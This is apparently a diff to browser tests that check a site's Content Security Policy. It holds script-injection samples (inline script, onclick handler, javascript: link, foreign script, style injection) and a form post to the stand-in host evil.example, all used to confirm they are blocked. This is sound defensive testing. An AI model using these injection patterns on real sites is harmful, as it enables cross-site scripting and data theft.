@@ -21,10 +21,13 @@ SMUGGLED = {
         script.textContent = "document.title = 'taken over'";
         document.body.append(script);""",
     "an event attribute": """
-        document.body.insertAdjacentHTML("beforeend", "<button id='trap' onclick=\\"document.title='taken over'\\">x</button>");
-        document.getElementById("trap").click();""",
+        const button = document.createElement("button");
+        button.setAttribute("onclick", "document.title = 'taken over'");
+        document.body.append(button);
+        button.click();""",
     "an address with script": """
-        const link = Object.assign(document.createElement("a"), { href: "javascript:document.title='taken over'" });
+        const link = document.createElement("a");
+        link.href = "javascript:document.title='taken over'";
         document.body.append(link);
         link.click();""",
     "a script of another host": """
@@ -33,7 +36,8 @@ SMUGGLED = {
         document.body.append(script);""",
     "a style attribute": """
         document.body.insertAdjacentHTML("beforeend", "<p id='trap' style='position: fixed'>x</p>");
-        if (getComputedStyle(document.getElementById("trap")).position === "fixed") document.title = "taken over";""",
+        const { position } = getComputedStyle(document.getElementById("trap"));
+        if (position === "fixed") document.title = "taken over";""",
     "a style element": """
         const style = document.createElement("style");
         style.textContent = "body { position: fixed }";
@@ -54,7 +58,7 @@ def page(owner: User, signed_in: SignedIn) -> Page:
     page.goto("/")
     page.evaluate("""() => {
       window.blocked = [];
-      document.addEventListener("securitypolicyviolation", event => window.blocked.push(event.violatedDirective));
+      document.addEventListener("securitypolicyviolation", (event) => window.blocked.push(event.blockedURI));
     }""")
     return page
 
@@ -74,7 +78,8 @@ def test_nothing_smuggled_into_a_page_runs(page: Page, watch: Watch) -> None:
 def test_a_form_cannot_be_sent_to_another_host(page: Page, watch: Watch) -> None:
     watch.expect("")
     page.evaluate("""() => {
-      const form = Object.assign(document.createElement("form"), { action: "http://evil.example/", method: "post" });
+      const form = document.createElement("form");
+      Object.assign(form, { action: "http://evil.example/", method: "post" });
       document.body.append(form);
       form.submit();
     }""")
